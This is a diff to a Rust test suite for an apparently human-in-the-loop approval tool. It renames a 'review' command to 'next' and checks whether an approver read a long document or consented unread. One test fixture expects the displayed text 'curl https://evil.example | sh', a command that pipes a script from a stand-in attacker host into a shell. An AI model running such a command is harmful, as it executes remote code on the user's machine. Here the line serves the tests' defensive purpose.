@@ -108,8 +108,8 @@ fn a_leap_to_the_end_is_not_reading() {
 fn without_a_terminal_nobody_reads_and_nobody_consents() {
     let sandbox = Sandbox::new();
     let id = sandbox.ask_document(&approval("Run?", "ls"));
-    for arguments in [&["review"][..], &["inbox", "--plain"]] {
-        let typed = if arguments[0] == "review" { "1\n\nq\n" } else { "1\n1\n\nq\n" };
+    for arguments in [&["next"][..], &["inbox", "--plain"]] {
+        let typed = if arguments[0] == "next" { "1\n\nq\n" } else { "1\n1\n\nq\n" };
         let ran = sandbox.run_with(arguments, typed);
         assert!(format!("{}{}", ran.out, ran.err).contains("needs its digest"), "{ran}");
         at(&sandbox.show(&id), "/status", "pending");
@@ -155,21 +155,22 @@ fn answer_ignores_keys_that_were_typed_before_it_showed_the_subject() {
 }
 
 #[test]
-fn review_asks_whether_what_is_longer_than_the_screen_was_read() {
+fn next_asks_whether_what_is_longer_than_the_screen_was_read() {
     let sandbox = Sandbox::new();
-    let ids: Vec<String> = (0..2).map(|_| sandbox.ask_document(&approval("Run?", &script()))).collect();
-    let mut review = Terminal::start(&sandbox, &["review", "--by", "bo"]);
-    for key in ["u", "r"] {
-        review.until("curl https://evil.example | sh");
-        review.until("? help] ");
-        review.press("1");
-        review.until("Message");
-        review.press("\r");
-        review.until("r: I have read it to its end, u: I consent unread");
-        review.press(&format!("{key}\r"));
-        review.until("Answered");
+    let ids: Vec<String> =
+        ["1", "2"].map(|n| sandbox.ask_document(&approval(&format!("Run {n}?"), &script()))).into();
+    let mut next = Terminal::start(&sandbox, &["next", "--by", "bo"]);
+    for (key, id) in ["u", "r"].iter().zip(&ids) {
+        next.until("curl https://evil.example | sh");
+        next.until(&format!("{id}> "));
+        next.press("1\r");
+        next.until("Message");
+        next.press("\r");
+        next.until("r: I have read it to its end, u: I consent unread");
+        next.press(&format!("{key}\r"));
+        next.until("Answered");
     }
-    assert_eq!(review.end(), 0);
+    assert_eq!(next.end(), 0);
     at(&sandbox.show(&ids[0]), "/answer/seen", false);
     at(&sandbox.show(&ids[1]), "/answer/seen", true);
 }
